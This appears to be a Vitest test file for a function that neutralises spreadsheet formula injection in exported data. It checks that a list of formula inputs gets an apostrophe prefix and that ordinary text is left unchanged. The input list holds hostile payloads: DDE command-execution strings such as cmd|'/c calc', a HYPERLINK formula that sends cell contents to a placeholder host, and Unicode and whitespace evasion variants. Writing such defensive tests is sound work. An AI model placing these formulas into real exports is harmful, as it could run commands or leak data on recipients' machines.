import { describe, expect, it } from 'vitest'
import { neutraliseFormula } from './neutralise-formula.ts'

// From the corpora of OWASP and of published attacks on exports, and our own variations on them.
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://example.invalid/?"&A1,"Reçu")',
  `=cmd|'/c calc'!A0`,
  '+1+1',
  '+33 6 00 00 00 00',
  '-1+1',
  `-2+3+cmd|'/c calc'!A0`,
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tanything',
  '\r\nanything',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '−1',
  '  =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '"=1+1'.slice(1),
]

const TEXTS = [
  '',
  'REL 42',
  '42',
  '1,5',
  "'=1+1",
  'a=b',
  'Ne pas payer - jamais',
  'Кампания',
  'cs_test_1',
  '(=1)',
  'é@b',
]

describe('what a spreadsheet would calculate', () => {
  it.each(FORMULAS)('is made a text: %j', (formula) => {
    expect(neutraliseFormula(formula)).toBe(`'${formula}`)
  })

  it.each(TEXTS)('and nothing else is touched: %j', (text) => {
    expect(neutraliseFormula(text)).toBe(text)
  })
})
